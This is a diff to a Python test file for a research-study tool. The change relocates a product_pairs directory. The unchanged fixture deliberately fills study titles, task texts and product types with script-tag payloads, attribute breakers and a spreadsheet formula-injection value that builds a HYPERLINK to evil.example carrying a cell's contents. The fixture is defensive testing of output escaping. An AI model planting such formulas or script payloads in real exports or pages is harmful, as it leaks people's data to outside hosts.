@@ -25,16 +25,18 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 def _hostile_study(tmp_path: Path) -> Path:
     """The demo study with script tags and attribute breakers in every text it shows."""
-    studies, pairs_dir = tmp_path / "studies", tmp_path / "product_pairs"
-    studies.mkdir()
-    pairs_dir.mkdir()
+    studies = tmp_path / "studies"
+    pairs_dir = studies / "product_pairs"
+    pairs_dir.mkdir(parents=True)
     doc = yaml.safe_load(DEMO.read_text())
     doc["slug"] = "hostile-study"
     doc["title"] = f"Title {SCRIPT}"
     for block in doc["tasks"]:
         if "text" in block:
             block["text"] = f"{block['text']}\n\n{SCRIPT} {ATTR}"
-    pairs = yaml.safe_load((ROOT / "stimuli" / "product_pairs" / "demo.yaml").read_text())
+    pairs = yaml.safe_load(
+        (ROOT / "stimuli" / "studies" / "product_pairs" / "demo.yaml").read_text()
+    )
     for pair in pairs["pairs"]:
         pair["product_type"] = FORMULA
         for side in ("target", "control"):
